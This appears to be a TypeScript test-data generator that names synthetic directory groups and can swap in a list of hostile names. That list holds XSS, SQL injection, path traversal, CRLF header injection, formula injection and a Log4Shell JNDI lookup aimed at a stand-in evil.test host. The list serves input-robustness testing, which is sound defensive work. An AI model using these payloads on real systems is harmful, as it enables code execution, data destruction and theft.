import type { Vendor } from '../app.ts';
import { Choices, CONSONANTS } from '../choices.ts';
import { groupId } from './object-id.ts';
import type { Group, PersonaSpec } from './person.ts';

const FIELDS = ['Orbital', 'Tidal', 'Lunar', 'Coastal', 'Alpine', 'Polar', 'Cloud', 'Volcanic'];
const CRAFTS = ['Mechanics', 'Cartography', 'Acoustics', 'Forestry', 'Optics', 'Masonry', 'Ballistics', 'Weaving'];
const BODIES = ['Guild', 'Assembly', 'Circle', 'Chapter', 'Collective', 'Society'];

/** Names that do harm where a name is read as anything but a name. `~` is where the group's own letters go. */
const HOSTILE = [
  '<script>alert("~")</script>',
  '<img src=x onerror=alert(1)> ~',
  '../../etc/passwd ~',
  '..\\..\\windows\\system32 ~',
  "'; DROP TABLE groups; -- ~",
  '" OR "1"="1" ~',
  '=HYPERLINK("http://~.evil.test","open")',
  '@SUM(1+1)*cmd|~!A0',
  '${jndi:ldap://~.evil.test/a}',
  '{{7*7}} ~',
  'admins%00~',
  'admins%0d%0aSet-Cookie: group=~',
  'Sales, Marketing; Finance | ~',
  'R&amp;D &lt;~&gt;',
  '__proto__ ~',
  'admins\u202e~',
  '  Keyholders ~  ',
];

/** How many groups a persona is in, direct and through nesting. */
export function groupCount(groups: PersonaSpec['groups']): number {
  return typeof groups === 'object' ? groups.direct + groups.nested : (groups ?? 0);
}

/** That many groups which belong to nobody else, flattened as a directory lists them. */
export function groupsOf(
  vendor: Vendor,
  count: number,
  names: PersonaSpec['groupNames'],
  nonce: string,
  ...key: string[]
): Group[] {
  return Array.from({ length: count }, (_, index) => {
    const choices = new Choices('group', vendor, ...key, index);
    const mark = `${choices.text(CONSONANTS, 8)} ${nonce}`;
    const hostile = HOSTILE[index % HOSTILE.length] ?? '';
    return {
      id: groupId[vendor](choices, nonce),
      name:
        names === 'hostile'
          ? hostile.replace('~', mark)
          : `${choices.pick(FIELDS)} ${choices.pick(CRAFTS)} ${choices.pick(BODIES)} ${mark}`,
    };
  });
}
